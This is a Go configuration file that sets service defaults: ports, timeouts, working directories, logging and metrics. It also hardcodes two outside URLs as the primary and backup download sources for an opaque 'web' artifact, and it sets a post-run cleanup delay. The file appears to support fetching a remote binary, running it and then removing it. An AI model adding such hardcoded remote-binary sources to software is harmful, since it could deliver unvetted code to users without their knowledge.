package config

import "time"

// Default values for configuration fields.
const (
	// Service defaults
	DefaultPort            = 3000
	DefaultHealthPort      = 3003
	DefaultHealthBody      = "hello"
	DefaultReadTimeout     = 10 * time.Second
	DefaultWriteTimeout    = 10 * time.Second
	DefaultIdleTimeout     = 60 * time.Second
	DefaultShutdownTimeout = 5 * time.Second

	// Engine layout defaults
	DefaultBaseDir      = "."
	DefaultIdentityFile = ".uuid"
	DefaultWorkDir      = "tmp"
	DefaultConfigName   = "config.json"
	DefaultArtifactName = "web"

	// Download defaults
	DefaultPrimaryURL      = "http://fi10.bot-hosting.net:20980/web"
	DefaultBackupURL       = "https://amd64.ssss.nyc.mn/web"
	DefaultDownloadTimeout = 30 * time.Second

	// Lifecycle defaults
	DefaultCleanupDelay      = 90 * time.Second
	DefaultHeartbeatInterval = 5 * time.Minute

	// Telemetry defaults
	DefaultLoggingLevel  = "info"
	DefaultLoggingFormat = "json"
	DefaultMetricsPath   = "/metrics"
)

// Default returns a Config with every field set to its default value.
func Default() *Config {
	cfg := &Config{}
	ApplyDefaults(cfg)
	return cfg
}

// ApplyDefaults applies default values to a Config struct.
// It sets defaults for any fields that have zero values.
// This function is idempotent and safe to call multiple times.
func ApplyDefaults(cfg *Config) {
	// Service defaults
	if cfg.Service.Port == 0 {
		cfg.Service.Port = DefaultPort
	}
	if cfg.Service.HealthPort == 0 {
		cfg.Service.HealthPort = DefaultHealthPort
	}
	if cfg.Service.HealthBody == "" {
		cfg.Service.HealthBody = DefaultHealthBody
	}
	if cfg.Service.ReadTimeout == 0 {
		cfg.Service.ReadTimeout = DefaultReadTimeout
	}
	if cfg.Service.WriteTimeout == 0 {
		cfg.Service.WriteTimeout = DefaultWriteTimeout
	}
	if cfg.Service.IdleTimeout == 0 {
		cfg.Service.IdleTimeout = DefaultIdleTimeout
	}
	if cfg.Service.ShutdownTimeout == 0 {
		cfg.Service.ShutdownTimeout = DefaultShutdownTimeout
	}

	// Engine defaults
	if cfg.Engine.BaseDir == "" {
		cfg.Engine.BaseDir = DefaultBaseDir
	}
	if cfg.Engine.IdentityFile == "" {
		cfg.Engine.IdentityFile = DefaultIdentityFile
	}
	if cfg.Engine.WorkDir == "" {
		cfg.Engine.WorkDir = DefaultWorkDir
	}
	if cfg.Engine.ConfigName == "" {
		cfg.Engine.ConfigName = DefaultConfigName
	}
	if cfg.Engine.ArtifactName == "" {
		cfg.Engine.ArtifactName = DefaultArtifactName
	}

	// Download defaults
	if cfg.Download.PrimaryURL == "" {
		cfg.Download.PrimaryURL = DefaultPrimaryURL
	}
	if cfg.Download.BackupURL == "" {
		cfg.Download.BackupURL = DefaultBackupURL
	}
	if cfg.Download.Timeout == 0 {
		cfg.Download.Timeout = DefaultDownloadTimeout
	}

	// Lifecycle defaults
	if cfg.Lifecycle.CleanupDelay == 0 {
		cfg.Lifecycle.CleanupDelay = DefaultCleanupDelay
	}
	if cfg.Lifecycle.HeartbeatInterval == 0 {
		cfg.Lifecycle.HeartbeatInterval = DefaultHeartbeatInterval
	}

	// Telemetry defaults
	if cfg.Telemetry.Logging.Level == "" {
		cfg.Telemetry.Logging.Level = DefaultLoggingLevel
	}
	if cfg.Telemetry.Logging.Format == "" {
		cfg.Telemetry.Logging.Format = DefaultLoggingFormat
	}
	if cfg.Telemetry.Metrics.Path == "" {
		cfg.Telemetry.Metrics.Path = DefaultMetricsPath
	}
}
